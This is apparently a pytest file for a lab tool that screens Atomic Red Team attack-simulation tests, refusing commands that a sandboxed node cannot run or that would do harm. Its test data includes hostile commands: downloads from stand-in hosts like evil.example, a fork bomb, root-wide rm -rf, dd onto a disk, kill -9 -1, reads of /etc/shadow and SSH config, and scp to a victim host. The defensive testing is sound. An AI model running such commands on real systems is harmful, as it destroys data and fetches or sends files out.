"""A test that would fail for certain or do harm is refused before it starts, with the true reason."""

from __future__ import annotations

import io
import tarfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from lab.exercise.atomic.library import Argument, AtomicTest, read_library
from lab.exercise.atomic.needs import packages_named, programs_needed, runnable
from lab.exercise.atomic.refusal import lacking_files, placed, refused
from lab.exercise.steps.atomic import folders_of
from tests.support import KINDS, SAMPLES

ATOMICS = SAMPLES / "atomics"
ENDPOINT = KINDS.find("endpoint")
PLAIN = AtomicTest(
    technique="T1000", number=1, name="x", guid="", description="", platforms=("linux",), executor="sh",
    elevated=False, command="true", cleanup="", dependency_executor="sh", folder=Path("/nowhere/T1000"),
)  # fmt: skip


def why(command: str, **changed: object) -> str:
    assert ENDPOINT is not None
    test = replace(PLAIN, command=command, **changed)  # type: ignore[arg-type]
    return refused(placed(test), platform="linux", capabilities=ENDPOINT.capabilities)


@pytest.mark.parametrize(
    "command",
    [
        "cat /etc/passwd", "sudo cat /etc/shadow", "ip addr", "mount", "sysctl -a", "date", "ifconfig -a",
        "hostname", "arp -a", "iptables-save || true", "if [ -x /bin/x ]; then systemctl status; fi",
        "curl http://127.0.0.1:8080/x", "wget localhost:80", "ps aux | grep root", "rm -rf /tmp/x",
        "uname -a && (which docker && docker ps)", "kill -9 4242", "chattr +d /tmp/x", "echo a@b.example",
        "cat ~/.ssh/config", "dd if=/dev/zero of=/tmp/x count=1", "ls PathToAtomicsFolder/T1000/out.txt",
        "f() { reboot_later; }; f", "echo shutdown", "grep init /etc/inittab", "git config --list",
    ],
)  # fmt: skip
def test_what_a_node_can_do_is_not_refused(command: str) -> None:
    assert why(command) == ""


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("curl -sO https://evil.example/x", "needs evil.example, and a node reaches no address outside"),
        ("wget http://198.51.100.7/x", "needs 198.51.100.7"),
        ("git clone git://evil.example/x", "needs evil.example"),
        ("curl -s raw.githubusercontent.com/x", "needs raw.githubusercontent.com/x"),
        ("ping -c 1 example.com", "needs example.com"),
        ("sudo apt-get install -y nmap", "apt-get install -y needs the internet"),
        ("pip3 install requests", "pip3 install requests needs the internet"),
        ("shutdown -h now", "shutdown shuts the node down"),
        ("sudo /sbin/reboot", "reboot shuts the node down"),
        ("if true; then systemctl poweroff; fi", "systemctl shuts the node down"),
        ("init 0", "init shuts the node down"),
        ("echo b > /proc/sysrq-trigger", "shuts the machine down"),
        ("rm -rf / --no-preserve-root", "removes all that the node has"),
        ("sudo rm -fr /*", "removes all that the node has"),
        (":(){ :|:& };:", "starts processes without end"),
        ("bomb() { bomb | bomb & }; bomb", "starts processes without end"),
        ("dd if=/dev/zero of=/dev/sda", "writes to a disk of the machine"),
        ("kill -9 -1", "ends every process of the node"),
        ("insmod x.ko", "insmod wants the capability SYS_MODULE"),
        ("sudo modprobe x", "modprobe wants the capability SYS_MODULE"),
        ("iptables -F", "iptables wants the capability NET_ADMIN"),
        ("mount -t tmpfs x /mnt", "mount wants the capability SYS_ADMIN"),
        ("sysctl -w kernel.x=1", "sysctl wants the capability SYS_ADMIN"),
        ("ip link set eth0 promisc on", "ip wants the capability NET_ADMIN"),
        ("chattr +i /tmp/x", "chattr wants the capability LINUX_IMMUTABLE"),
        ("date -s 2020-01-01", "date wants the capability SYS_TIME"),
        ("strace -p 1", "strace wants the capability SYS_PTRACE"),
        ("systemctl start x", "systemctl needs systemd as the first process"),
        ("docker run x", "docker needs an engine of its own"),
        ("kubectl get pods", "kubectl needs a Kubernetes cluster"),
        ("kldstat | grep x", "kldstat needs FreeBSD"),
        ("cat /etc/master.passwd", "is about /etc/master.passwd, which only FreeBSD has"),
        ("gcc PathToAtomicsFolder/T1000/src/a.c", "the checkout lacks T1000/src/a.c"),
        ("sh $PathToAtomicsFolder/T1000/bin/a.sh", "the checkout lacks T1000/bin/a.sh"),
        ("scp x victim@victim-host:/tmp", "is aimed at victim-host, which is no node of the lab"),
        (" \n", "has no command"),
    ],
)
def test_what_would_fail_or_do_harm_is_refused_with_the_reason(command: str, reason: str) -> None:
    assert why(command).startswith(reason)


@pytest.mark.parametrize(
    ("changed", "reason"),
    [
        ({"platforms": ("windows", "macos")}, "runs on windows, macos, not on linux"),
        ({"executor": "powershell"}, "is run by powershell, and a node has sh and bash"),
        ({"executor": "manual"}, "has to be done by hand"),
    ],
)
def test_what_is_for_something_else_is_refused(changed: dict[str, object], reason: str) -> None:
    assert why("true", **changed) == reason


def test_a_host_in_an_argument_is_named_with_what_to_give() -> None:
    argument = Argument(name="remote_host", kind="string", default="victim-host", description="")
    said = why("rsync -r /tmp u@victim-host:/tmp", arguments=(argument,))
    assert said.endswith("give  remote_host  a node's address")


def test_a_file_of_the_checkout_that_is_there_is_not_lacking(tmp_path: Path) -> None:
    (tmp_path / "T1000" / "src").mkdir(parents=True)
    (tmp_path / "T1000" / "src" / "a.c").touch()
    test = replace(
        PLAIN, folder=tmp_path / "T1000", command="gcc PathToAtomicsFolder/T1000/src/a.c -o /tmp/a"
    )
    assert lacking_files(placed(test)) == ()
    climbing = replace(PLAIN, folder=tmp_path / "T1000", command="cat PathToAtomicsFolder/T1000/src/../../x")
    assert lacking_files(placed(climbing)) == ("T1000/src/../../x",)


def _samples() -> Iterator[AtomicTest]:
    yield from read_library(ATOMICS).tests


def test_of_the_samples_those_may_run_that_a_node_can_do() -> None:
    assert ENDPOINT is not None
    may = runnable(_samples(), ENDPOINT.capabilities)
    assert [it.id for it in may if it.technique == "T1222.002"] == [f"T1222.002-{n}" for n in range(1, 9)]
    assert {it.technique for it in may} == {
        "T1003.008", "T1053.003", "T1070.004", "T1087.001", "T1105", "T1222.002",
    }  # fmt: skip
    assert {"ed", "lsof", "crontab", "chown", "whois"} <= set(programs_needed(may))
    assert packages_named(may) == ("login", "lsof")


def test_only_folders_of_techniques_are_brought_to_a_node(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("ours", encoding="utf-8")
    (tmp_path / "atomics" / "T1000" / "src").mkdir(parents=True)
    (tmp_path / "atomics" / "T1000" / "src" / "a.sh").write_text("id", encoding="utf-8")
    (tmp_path / "atomics" / "T1000" / "src" / "link").symlink_to(tmp_path / "secret")
    test = replace(
        PLAIN,
        folder=tmp_path / "atomics" / "T1000",
        command="sh PathToAtomicsFolder/T1000/src/a.sh; cat PathToAtomicsFolder/../secret",
    )
    packed = folders_of(placed(test))
    with tarfile.open(fileobj=io.BytesIO(packed)) as archive:
        assert archive.getnames() == ["tmp/AtomicRedTeam/atomics/T1000/src/a.sh"]
